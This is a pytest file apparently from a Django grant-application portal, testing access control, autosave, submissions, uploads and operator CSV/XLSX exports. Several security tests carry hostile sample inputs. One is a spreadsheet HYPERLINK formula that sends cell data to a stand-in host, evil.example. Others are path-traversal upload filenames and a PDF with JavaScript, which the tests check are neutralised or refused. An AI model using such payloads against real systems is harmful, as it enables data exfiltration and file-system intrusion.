"""The applicant's pages and the operator's view, through HTTP as a browser would use them."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from kbridge.applications.models import Application, Submission
from tests.applications.conftest import complete_answers, make_pdf

KST = ZoneInfo("Asia/Seoul")

NOT_FOUND = 404


def _urls(application, attachment=None, submission=None):
    urls = [f"/applications/{application.pk}/"]
    if attachment is not None:
        urls.append(f"/applications/{application.pk}/files/{attachment.pk}/download/")
    if submission is not None:
        urls.append(f"/applications/{application.pk}/receipts/{submission.number}/")
    return urls


@pytest.mark.parametrize("persona", ["startup_b", "partner_admin", "partner_a", "partner_b",
                                     "evaluator", "operator_b"])
def test_others_get_404_on_the_application_its_files_and_receipts(persona, complete_draft,
                                                                  personas, client_for):
    from kbridge.applications import services

    submission = services.submit_application(application=complete_draft, by=personas.startup_a,
                                             draft_version=complete_draft.version)
    attachment = complete_draft.attachments.first()
    client = client_for(personas.by_name(persona))
    for url in _urls(complete_draft, attachment, submission):
        assert client.get(url).status_code == NOT_FOUND, url
    for url in [f"/applications/{complete_draft.pk}/autosave/",
                f"/applications/{complete_draft.pk}/submit/",
                f"/applications/{complete_draft.pk}/withdraw/"]:
        assert client.post(url, {}).status_code == NOT_FOUND, url
    assert client.get(f"/manage/calls/{complete_draft.call_id}/applications/").status_code == 404


def test_anonymous_is_asked_to_sign_in(complete_draft, client):
    response = client.get(f"/applications/{complete_draft.pk}/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_file_download_is_an_attachment_with_nosniff(complete_draft, personas, client_for):
    attachment = complete_draft.attachments.first()
    response = client_for(personas.startup_a).get(
        f"/applications/{complete_draft.pk}/files/{attachment.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    import hashlib

    assert hashlib.sha256(b"".join(response.streaming_content)).hexdigest() == attachment.sha256


def test_operator_sees_the_application(complete_draft, personas, client_for):
    client = client_for(personas.operator)
    response = client.get(f"/manage/applications/{complete_draft.pk}/")
    assert response.status_code == 200
    # The applicant's edit URL sends the operator to the read-only page.
    assert client.get(f"/applications/{complete_draft.pk}/")["Location"] == \
        f"/manage/applications/{complete_draft.pk}/"


def test_autosave_through_htmx(draft, questions, personas, client_for):
    client = client_for(personas.startup_a)
    key = f"q_{questions[0].pk}"
    response = client.post(f"/applications/{draft.pk}/autosave/",
                           {key: "자동 저장된 개요", "version": draft.version},
                           HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="save-status"' in html and 'name="version" value="2"' in html
    draft.refresh_from_db()
    assert draft.answers[str(questions[0].pk)] == "자동 저장된 개요"


def test_autosave_conflict_is_reported_and_nothing_is_overwritten(draft, questions, personas,
                                                                  client_for):
    client = client_for(personas.startup_a)
    key = f"q_{questions[0].pk}"
    client.post(f"/applications/{draft.pk}/autosave/", {key: "tab A", "version": 1},
                HTTP_HX_REQUEST="true")
    response = client.post(f"/applications/{draft.pk}/autosave/", {key: "tab B", "version": 1},
                           HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert "another tab" in html or "다른 탭" in html
    assert 'name="version"' not in html  # the stale tab keeps its old version
    draft.refresh_from_db()
    assert draft.answers[str(questions[0].pk)] == "tab A"


def test_submit_with_missing_answers_keeps_the_input_and_lists_problems(draft, questions,
                                                                       personas, client_for):
    client = client_for(personas.startup_a)
    key = f"q_{questions[0].pk}"
    response = client.post(f"/applications/{draft.pk}/submit/", {
        key: "여기까지 썼습니다", "version": draft.version, "declarations_present": "1"})
    html = response.content.decode()
    assert response.status_code == 422
    assert "여기까지 썼습니다" in html
    assert 'role="alert"' in html
    assert Submission.objects.count() == 0
    draft.refresh_from_db()
    assert draft.answers[str(questions[0].pk)] == "여기까지 썼습니다"


def test_submit_from_the_form_and_double_click(complete_draft, questions, personas, client_for,
                                               django_capture_on_commit_callbacks):
    client = client_for(personas.startup_a)
    data = {f"q_{k}": v for k, v in complete_answers(questions).items()}
    data.update({"version": complete_draft.version, "declarations_present": "1",
                 "declares_government_support": "no", "declares_no_tax_arrears": "on"})
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(f"/applications/{complete_draft.pk}/submit/", data)
    second = client.post(f"/applications/{complete_draft.pk}/submit/", data)
    assert first.status_code == second.status_code == 302
    assert first["Location"] == second["Location"]
    assert Submission.objects.count() == 1
    receipt = client.get(first["Location"])
    assert Submission.objects.get().receipt_number in receipt.content.decode()
    download = client.get(first["Location"] + "?download=1")
    text = download.content.decode()
    assert download["Content-Disposition"].startswith("attachment;")
    assert Submission.objects.get().answers_sha256 in text


def test_upload_stores_the_pdf_and_keeps_the_draft(draft, questions, personas, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    deck = next(q for q in questions if q.kind == "file")
    client = client_for(personas.startup_a)
    response = client.post(f"/applications/{draft.pk}/files/{deck.pk}/", {
        "file": SimpleUploadedFile("피치덱.pdf", make_pdf(4), content_type="application/pdf")})
    assert response.status_code == 302
    attachment = draft.attachments.get()
    assert (attachment.original_name, attachment.pages) == ("피치덱.pdf", 4)


def test_operator_list_search_and_exports(complete_draft, personas, client_for):
    from kbridge.applications import services

    services.submit_application(application=complete_draft, by=personas.startup_a,
                                draft_version=complete_draft.version)
    client = client_for(personas.operator)
    url = f"/manage/calls/{complete_draft.call_id}/applications/"
    row_link = f'href="/manage/applications/{complete_draft.pk}/"'
    assert row_link in client.get(url, {"q": "뉴로"}).content.decode()
    assert row_link in client.get(url, {"q": "220-81"}).content.decode()  # BRN
    assert row_link not in client.get(url, {"q": "없는회사"}).content.decode()
    rows = list(csv.reader(io.StringIO(client.get(url, {"export": "csv"}).getvalue()
                                       .decode("utf-8-sig"), newline="")))
    receipt = Submission.objects.get().receipt_number
    assert rows[0][:3] == ["id", "receipt", "status"]
    assert rows[1][1:3] == [receipt, "submitted"] and rows[1][5] == "뉴로칩스"
    book = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).getvalue()))
    sheet = book.active
    assert sheet.cell(row=2, column=6).value == "뉴로칩스"
    assert sheet.cell(row=2, column=2).value == receipt
    searched = client.get(url, {"q": "뉴로", "status": "submitted", "export": "csv"})
    assert [row[0] for row in _csv_rows_from(searched.getvalue())] == ["id", str(complete_draft.pk)]


def test_operator_list_has_constant_queries(world, personas, client_for, questions):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.factories import ApplicationFactory, OrganisationFactory, TrackFactory

    client = client_for(personas.operator)
    url = f"/manage/calls/{world.call.pk}/applications/"

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    ApplicationFactory(track=world.track_a, applicant=OrganisationFactory(kind="startup"))
    client.get(url)  # the first request of a session also refreshes the session
    one = count()
    for _ in range(3):
        ApplicationFactory(track=TrackFactory(call=world.call, partner=world.partner_b),
                           applicant=OrganisationFactory(kind="startup"))
    assert count() == one


# --- Exports (issue 10, items 1 and 7) ---------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _export(client, call_id, kind):
    return client.get(f"/manage/calls/{call_id}/applications/", {"export": kind})


def _csv_rows(response) -> list[list[str]]:
    data = response.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 Korean only with a BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_exports_never_carry_a_live_formula(draft, personas, client_for):
    """A startup named like a formula is text in both exports; numbers stay numbers."""
    from kbridge.accounts.models import Organisation

    Organisation.objects.filter(pk=draft.applicant_id).update(name_ko=HYPERLINK,
                                                              name_en="-2+3 Labs")
    client = client_for(personas.operator)
    response = _export(client, draft.call_id, "csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = response.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 Korean only with a BOM
    assert _csv_rows_from(data)[1][5:7] == ["'" + HYPERLINK, "'-2+3 Labs"]
    line = data.decode("utf-8-sig").split("\r\n")[1]
    assert line.startswith(f'{draft.pk},""')  # our number unquoted, text quoted
    book = load_workbook(io.BytesIO(_export(client, draft.call_id, "xlsx").getvalue()))
    name, name_en, pk = (book.active.cell(row=2, column=c) for c in (6, 7, 1))
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
    assert (name_en.data_type, name_en.value) == ("s", "'-2+3 Labs")
    assert (pk.data_type, pk.value) == ("n", draft.pk)


def test_exports_survive_characters_a_workbook_cannot_hold(draft, personas, client_for):
    """Text stored before input cleaning (or by a script) may hold control characters that
    openpyxl refuses: the export drops them instead of failing."""
    from kbridge.accounts.models import Organisation

    Organisation.objects.filter(pk=draft.applicant_id).update(
        name_ko="뉴로\x0b칩스\x1f", name_en="Neuro\ufffeChips\x08")
    client = client_for(personas.operator)
    book = load_workbook(io.BytesIO(_export(client, draft.call_id, "xlsx").getvalue()))
    assert [book.active.cell(row=2, column=c).value for c in (6, 7)] == ["뉴로칩스", "NeuroChips"]
    assert _csv_rows(_export(client, draft.call_id, "csv"))[1][5:7] == ["뉴로칩스", "NeuroChips"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_have_constant_queries(kind, world, personas, client_for, questions):
    """1 and 3 applications (each with a profile and two submissions) cost the same queries:
    no per-row query, and receipt numbers without loading the submissions' answers."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext
    from django.utils import timezone

    from tests.factories import (
        ApplicationFactory,
        OrganisationFactory,
        StartupProfileFactory,
        TrackFactory,
    )

    client = client_for(personas.operator)
    client.get(f"/manage/calls/{world.call.pk}/applications/")  # session refresh out of the way
    made = []

    def add(track):
        applicant = OrganisationFactory(kind="startup")
        StartupProfileFactory(organisation=applicant, representative=personas.startup_a)
        application = ApplicationFactory(track=track, applicant=applicant, status="submitted",
                                         submitted_at=timezone.now())
        for number in (1, 2):
            Submission.objects.create(
                application=application, number=number, draft_version=number,
                receipt_number=f"R-{application.pk}-{number}", submitted_at=timezone.now(),
                submitted_by=personas.startup_a, answers={"1": "x" * 1000}, profile={},
                answers_sha256="0" * 64)
        made.append(application)

    def export():
        with CaptureQueriesContext(connection) as ctx:
            response = _export(client, world.call.pk, kind)
            data = response.getvalue()
        assert response.status_code == 200
        return len(ctx.captured_queries), ctx.captured_queries, data

    add(world.track_a)
    one, _, _ = export()
    for _ in range(2):
        add(TrackFactory(call=world.call, partner=world.partner_b))
    three, queries, data = export()
    assert three == one
    assert not any('"answers"' in q["sql"] for q in queries)
    if kind == "csv":
        receipts = {row[0]: row[1] for row in _csv_rows_from(data)[1:]}
        assert receipts == {str(a.pk): f"R-{a.pk}-2" for a in made}


def _csv_rows_from(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_streams_rows_after_the_first_line(draft, personas, client_for):
    """The CSV is a stream: its first line leaves before any application is read."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from kbridge.applications.views import EXPORT_HEADER

    client = client_for(personas.operator)
    with CaptureQueriesContext(connection) as ctx:
        response = _export(client, draft.call_id, "csv")
        chunks = iter(response.streaming_content)
        before = len(ctx.captured_queries)
        header = ",".join(f'"{name}"' for name in EXPORT_HEADER)
        assert next(chunks) == f"\ufeff{header}\r\n".encode()
        assert len(ctx.captured_queries) == before
        rest = b"".join(chunks)
    assert len(ctx.captured_queries) > before
    assert rest.startswith(f"{draft.pk},".encode()) and rest.count(b"\r\n") == 1


def test_start_from_the_call_page(world, personas, client_for, questions):
    client = client_for(personas.startup_a)
    page = client.get(f"/calls/{world.call.pk}/").content.decode()
    assert f"/applications/start/{world.track_a.pk}/" in page
    response = client.post(f"/applications/start/{world.track_a.pk}/")
    application = Application.objects.get()
    assert response["Location"] == f"/applications/{application.pk}/"
    refused = client.post(f"/applications/start/{world.track_b.pk}/", follow=True)
    assert "only one track per program" in refused.content.decode() or \
        "한 트랙" in refused.content.decode()


UPLOAD_CORPUS = [
    ("exe renamed", "deck.pdf", "exe", "not_pdf"),
    ("javascript", "deck.pdf", "js", "active_content"),
    ("one byte over", "deck.pdf", "over", "too_large"),
    ("path traversal", "../deck.pdf", "plain", "bad_name"),
    ("windows path", "..\\..\\deck.pdf", "plain", "bad_name"),
]


def _multipart(name: str, data: bytes) -> bytes:
    """A body as a browser or curl sends it; Django's test client strips folder parts."""
    return (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
            + name.encode() + b"\"\r\nContent-Type: application/pdf\r\n\r\n" + data
            + b"\r\n--XyZ--\r\n")


@pytest.mark.parametrize(("case", "name", "content", "code"), UPLOAD_CORPUS,
                         ids=[c[0] for c in UPLOAD_CORPUS])
def test_upload_corpus_is_refused_with_a_message_and_the_draft_intact(
        case, name, content, code, draft, questions, personas, client_for, settings):
    from tests.applications import pdf_corpus

    settings.KBRIDGE_UPLOAD_MAX_BYTES = 8192
    data = {"exe": pdf_corpus.exe_bytes, "js": pdf_corpus.pdf_with_open_action_javascript,
            "over": lambda: pdf_corpus.padded(pdf_corpus.plain_pdf(1), 8193),
            "plain": lambda: pdf_corpus.plain_pdf(1)}[content]()
    client = client_for(personas.startup_a)
    key = str(questions[0].pk)
    client.post(f"/applications/{draft.pk}/autosave/", {f"q_{key}": "지켜야 할 초안",
                                                        "version": 1}, HTTP_HX_REQUEST="true")
    deck = next(q for q in questions if q.kind == "file")
    response = client.generic("POST", f"/applications/{draft.pk}/files/{deck.pk}/",
                              _multipart(name, data),
                              content_type="multipart/form-data; boundary=XyZ")
    assert response.status_code == 302
    response = client.get(response["Location"])
    html = response.content.decode()
    assert response.status_code == 200
    assert 'class="message message-error"' in html
    assert "지켜야 할 초안" in html  # the draft is shown intact under the message
    draft.refresh_from_db()
    assert draft.answers[key] == "지켜야 할 초안"
    assert draft.attachments.count() == 0


def test_a_hundred_and_one_files_in_one_request_are_refused(draft, questions, personas,
                                                            client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.applications.pdf_corpus import plain_pdf

    deck = next(q for q in questions if q.kind == "file")
    pdf = plain_pdf(1)
    files = [SimpleUploadedFile(f"deck{i}.pdf", pdf) for i in range(101)]
    response = client_for(personas.startup_a).post(
        f"/applications/{draft.pk}/files/{deck.pk}/", {"file": files}, follow=True)
    html = response.content.decode()
    assert response.status_code == 200
    assert "100" in html and 'message-error' in html
    assert draft.attachments.count() == 0


def test_a_grossly_oversized_upload_is_refused_before_the_body_is_read(draft, questions,
                                                                       personas, client_for,
                                                                       settings):
    from django.test.client import MULTIPART_CONTENT, encode_multipart

    settings.KBRIDGE_UPLOAD_MAX_BYTES = 1024
    deck = next(q for q in questions if q.kind == "file")
    body = encode_multipart("BoUnDaRy", {"file": ("x" * 200_000)})
    response = client_for(personas.startup_a).generic(
        "POST", f"/applications/{draft.pk}/files/{deck.pk}/", body,
        content_type=MULTIPART_CONTENT.replace("BoUnDaRyStRiNg", "BoUnDaRy"))
    assert response.status_code == 302
    assert response["Location"] == f"/applications/{draft.pk}/"
    assert response["Connection"] == "close"


def test_too_many_files_are_refused_before_the_csrf_check(draft, questions, personas):
    """With CSRF enforced (as in production) the refusal is still a message, not a bare 400."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.test import Client

    from tests.applications.pdf_corpus import plain_pdf

    client = Client(enforce_csrf_checks=True)
    client.force_login(personas.startup_a)
    deck = next(q for q in questions if q.kind == "file")
    pdf = plain_pdf(1)
    response = client.post(f"/applications/{draft.pk}/files/{deck.pk}/",
                           {"file": [SimpleUploadedFile(f"d{i}.pdf", pdf) for i in range(101)]})
    assert response.status_code == 302
    html = client.get(response["Location"]).content.decode()
    assert "message-error" in html and "100" in html


def test_representative_invites_a_member_who_can_edit_but_not_submit(
        draft, personas, client, run_tasks, django_capture_on_commit_callbacks):
    import re

    from django.core import mail

    from kbridge.accounts.models import User

    client.force_login(personas.startup_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/startup/members/", {"email": "coo@neurochips.example"})
    assert response.status_code == 302
    run_tasks()
    link = re.search(r"http://127.0.0.1:8000(\S+)", mail.outbox[-1].body).group(1)
    client.logout()
    client.post(link, {"full_name": "이서윤", "password1": "npu-compiler-team-9",
                       "password2": "npu-compiler-team-9", "privacy_consent": "on"})
    member = User.objects.get(email="coo@neurochips.example")
    assert member.memberships.get().role == "startup_member"
    assert client.get(f"/applications/{draft.pk}/").status_code == 200
    assert client.post(f"/applications/{draft.pk}/submit/", {}).status_code == 404
    # Members cannot invite others.
    assert client.post("/startup/members/", {"email": "x@example.kr"}).status_code == 404
    # Another startup's representative cannot see this team.
    client.force_login(personas.startup_b)
    assert "coo@neurochips.example" not in client.get("/startup/members/").content.decode()


def test_autosave_rechecks_eligibility_when_a_declaration_changes(draft, questions, personas,
                                                                 client_for):
    client = client_for(personas.startup_a)
    typed = client.post(f"/applications/{draft.pk}/autosave/",
                        {f"q_{questions[0].pk}": "개요", "version": 1}, HTTP_HX_REQUEST="true")
    assert 'id="eligibility"' not in typed.content.decode()
    declared = client.post(f"/applications/{draft.pk}/autosave/", {
        "version": 2, "declarations_present": "1", "declares_government_support": "yes",
        "government_support_detail": "TIPS"}, HTTP_HX_REQUEST="true").content.decode()
    assert 'id="eligibility"' in declared
    assert 'data-code="duplicate_funding_declared"' in declared


def test_extension_names_the_applicant_by_receipt_or_brn_not_a_list(submitted, world, personas,
                                                                     client_for):
    """At 10,000 applicants the list page carried a 450 KB <select> of every applicant
    (issue 10, item 7): the operator types a receipt number or a BRN instead."""
    from kbridge.applications.models import DeadlineExtension

    client = client_for(personas.operator)
    page = client.get(f"/manage/calls/{world.call.pk}/applications/").content.decode()
    assert 'select name="applicant"' not in page
    url = f"/manage/calls/{world.call.pk}/extensions/"
    later = (world.call.deadline_at + dt.timedelta(hours=3)).astimezone(KST)
    form = {"deadline_at": later.strftime("%Y-%m-%dT%H:%M"), "reason": "포털 장애"}
    receipt = submitted.submissions.get().receipt_number
    assert client.post(url, {**form, "applicant": receipt.lower()}).status_code == 302
    brn = submitted.applicant.profile.business_registration_number
    digits = "".join(c for c in brn if c.isdigit())
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in digits)  # ５５６８６８１５２９
    assert client.post(url, {**form, "applicant": full_width}).status_code == 302
    assert list(DeadlineExtension.objects.values_list("applicant", flat=True)) == [
        personas.startup_a_org.pk] * 2
    response = client.post(url, {**form, "applicant": "KB2026-999999-01"})
    assert response.status_code == 200
    assert "applicant" in response.context["extension_form"].errors
    assert 'value="KB2026-999999-01"' in response.content.decode()  # kept as typed
    assert DeadlineExtension.objects.count() == 2


def test_a_submitted_application_does_not_call_itself_a_draft(complete_draft, personas,
                                                              client_for):
    from kbridge.applications import services

    services.submit_application(application=complete_draft, by=personas.startup_a,
                                draft_version=complete_draft.version)
    html = client_for(personas.startup_a).get(f"/applications/{complete_draft.pk}/").content.decode()
    assert "지금 보이는 내용으로 제출되었습니다" in html
    status = html.split('id="save-status"')[1].split("</p>")[0]
    assert "자동 저장됨" not in status


def test_the_operator_reads_eligibility_as_an_operator(draft, personas, client_for):
    """The operator's detail names each failing rule and shows what the applicant is told,
    instead of speaking to the operator as if it were the applicant (a fresh tester)."""
    from kbridge.applications.models import StartupProfile

    StartupProfile.objects.filter(organisation=draft.applicant).update(
        business_registration_number="")
    html = client_for(personas.operator).get(f"/manage/applications/{draft.pk}/").content.decode()
    section = html.split('id="eligibility-h"')[1].split("</section>")[0]
    assert "이 신청은 트랙의 다음 요건을 충족하지 않습니다" in section
    assert "제출하려면" not in section.split("<ul")[0]
    assert "신청자에게 보이는 안내" in section
